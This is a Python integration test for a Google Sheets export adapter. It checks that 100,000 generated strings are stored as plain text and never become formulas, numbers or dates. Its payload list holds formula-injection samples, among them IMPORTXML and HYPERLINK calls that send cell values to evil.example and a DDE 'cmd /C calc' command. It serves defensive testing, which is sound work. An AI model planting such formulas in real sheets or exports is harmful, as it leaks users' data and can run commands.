"""A hundred thousand hostile texts through every way of writing: each stays the text that it was."""

import random
import string
from collections.abc import Callable, Iterator

import msgspec
import pytest

from adapters.google.sheets import GoogleSpreadsheets
from application.exports.sheets import CopyRows, Layout, Spreadsheet, Tab, WriteRows
from domain.exports.write_strategies.operations import PutRows
from domain.shared.cells import CellKind
from tests.integration.google.conftest import Account, Emulator

COUNT = 100_000
WIDTH = 5
BATCH = 4_000
ROWS = COUNT // WIDTH
LONGEST = 50_000
LAYOUT = Layout(
    ("Текст", "Сумма", "Создан", "Ссылка", "Число"),
    (CellKind.TEXT, CellKind.MONEY, CellKind.DATE_TIME, CellKind.LINK, CellKind.NUMBER),
)
"""Of every kind: what a column's format is must not matter."""

STARTS = "=+-@\t\r\n＝＋－＠﹦⁺⁻'\"`´’ \u00a0\u200b\u2060\ufeff\u202e\u200f|;,%$€₽#&\x01\x08\x1f\x7f\u0085"
CALLS = (
    '=IMPORTXML("https://evil.example/?x="&A1,"//a")',
    '=HYPERLINK("https://evil.example/?"&B2,"Открыть")',
    '=IMAGE("https://evil.example/p.png")',
    '=IMPORTDATA("https://evil.example")',
    '=IMPORTRANGE("1abc","A1:Z")',
    "=WEBSERVICE(A1)",
    "=cmd|' /C calc'!A0",
    "=DDE(1;2;3)",
    "=SUM(1;2)",
    "={1,2;3,4}",
    "=ARRAYFORMULA(A:A)",
    "=LAMBDA(x,x)(1)",
    "+A1+B1",
    "-2+3",
    "@SUM(1+1)",
    "=1+1",
    "=",
    "==1",
    "'=1+1",
    "''",
    "=\u200b1+1",
)
WORDS = """
TRUE FALSE ИСТИНА ЛОЖЬ true null NaN Infinity -0 007 1e5 1E+400 0x1F .5 5. 1,5 1'234.50 1,234.50 12% $5 €5 (5) 5- 1/2
1-2 01.02 01.02.2026 2026-09-05 2026-09-05T10:30:00Z 10:30 24:00:00 9/5/2026 4600000000000000000123 #REF! #N/A #DIV/0!
https://evil.example mailto:a@b.example javascript:alert(1) a@b.example A1 'Лист'!A1 R1C1 1:1
"""
SPACED = (
    "1 234,50",
    "1\u00a0234,50",
    "12,5 %",
    "100 ₽",
    "1.2.26 3:04",
    "5 сент. 2026",
    "Sep 5, 2026",
    "+7 495 123-45-67",
)
LOOKS = (*WORDS.split(), *SPACED)
ODD = (
    "\u202eкод\u202c",
    "שלום",
    "مرحبا ١٢٣",
    "e\u0301",
    "👨‍👩‍👧‍👦",
    "\ufdd0",
    "\U0010ffff",
    "\u200b",
    "\ufeff",
    "１２３",
    "①",
)
LETTERS = string.ascii_letters + string.digits + "абвгдежзЁё=+-@()!:;,.'\"\\/&|<>{}[]~^%$# \u00a0\t"


def number(chance: random.Random) -> str:
    """As people write numbers."""
    value = chance.choice((chance.randrange(10**15), -chance.randrange(10**9), chance.random() * 1e6, chance.random()))
    return chance.choice(("{}", " {}", "{} ", "+{}", "'{}", "0{}", "{}%", "{} ₽")).format(value)


def date(chance: random.Random) -> str:
    """As people write dates."""
    parts = (f"{chance.randrange(1, 32):02}", f"{chance.randrange(1, 13):02}", str(chance.randrange(1900, 2100)))
    return chance.choice("./-").join(parts if chance.random() < 0.7 else parts[::-1])


def noise(chance: random.Random) -> str:
    """Anything, behind a sign."""
    return chance.choice("=+-@0123456789") + "".join(chance.choices(LETTERS, k=chance.randrange(1, 30)))


KINDS: tuple[Callable[[random.Random], str], ...] = (
    lambda chance: chance.choice(CALLS),
    lambda chance: chance.choice(STARTS) + chance.choice(CALLS),
    lambda chance: chance.choice(LOOKS),
    lambda chance: chance.choice(STARTS) + chance.choice(LOOKS) + chance.choice(("", " ", "\u00a0", "\t", "\n", "'")),
    lambda chance: chance.choice("=+-@") + chance.choice(ODD) + chance.choice(CALLS),
    number,
    date,
    noise,
)
"""None with a NUL, which Google does not take, and none that is empty, which is a blank."""


def texts(seed: int) -> list[str]:
    chance = random.Random(seed)
    made = [*CALLS, *LOOKS, *ODD, *(start for start in STARTS), "=" * LONGEST, "+" + "1" * (LONGEST - 1)]
    made += [chance.choice(KINDS)(chance) for _ in range(COUNT - len(made))]
    chance.shuffle(made)
    return made


def batches(rows: list[list[str]]) -> Iterator[PutRows[bytes]]:
    for first in range(0, len(rows), BATCH):
        part = rows[first : first + BATCH]
        yield PutRows(2 + first, tuple(msgspec.json.encode(row) for row in part))


@pytest.fixture
async def table(spreadsheets: GoogleSpreadsheets, book: Spreadsheet, account: Account) -> Tab:
    return await spreadsheets.lay_out(account.token, book.spreadsheet_id, book.tabs[0], LAYOUT, ROWS + 1, range(WIDTH))


@pytest.mark.parametrize("way", ["values", "atomic", "copied"])
async def test_none_of_a_hundred_thousand_texts_becomes_anything_else(
    spreadsheets: GoogleSpreadsheets, book: Spreadsheet, table: Tab, account: Account, emulator: Emulator, way: str
) -> None:
    flat = texts(seed=20261125)
    rows = [flat[first : first + WIDTH] for first in range(0, COUNT, WIDTH)]
    key, spreadsheet, columns = account.token, book.spreadsheet_id, tuple(range(WIDTH))
    hidden = table
    if way == "copied":
        hidden = await spreadsheets.add_tab(key, spreadsheet, "Загрузка", hidden=True)
        hidden = await spreadsheets.lay_out(key, spreadsheet, hidden, LAYOUT, ROWS + 1, columns)
    previous = None
    for marker, operation in enumerate(batches(rows), start=1):
        if way == "atomic":
            await spreadsheets.apply(key, spreadsheet, [WriteRows(table, columns, operation)], marker, previous)
            previous = marker
        else:
            await spreadsheets.write(key, spreadsheet, hidden, [operation], columns)
    if way == "copied":
        step = CopyRows(hidden, columns, 2, ROWS + 1, table, columns, 2)
        await spreadsheets.apply(key, spreadsheet, [step], 1, None)
    found = await emulator.sheet(spreadsheet, table.sheet_id)
    assert found["formulas"] == {}
    stored = [cell for row in found["values"][1:] for cell in row]
    assert len(stored) == COUNT
    assert {type(cell) for cell in stored} == {str}, "no number, date or truth value"
    assert stored == flat
    read = await spreadsheets.contents(key, spreadsheet, table, [(2, ROWS + 1)], columns)
    assert [cell for row in read for cell in row] == flat
    shown = [cell for row in found["formatted"][1:] for cell in row]
    assert shown == flat, "nor does a format change what is shown"


def test_there_are_many_kinds_of_them() -> None:
    flat = texts(seed=20261125)
    assert len(flat) == COUNT
    assert len(set(flat)) > COUNT // 3
    assert max(map(len, flat)) == LONGEST
    assert not any("\0" in text or not text for text in flat)
    assert sum(text[0] in "=+-@" for text in flat) > COUNT // 4
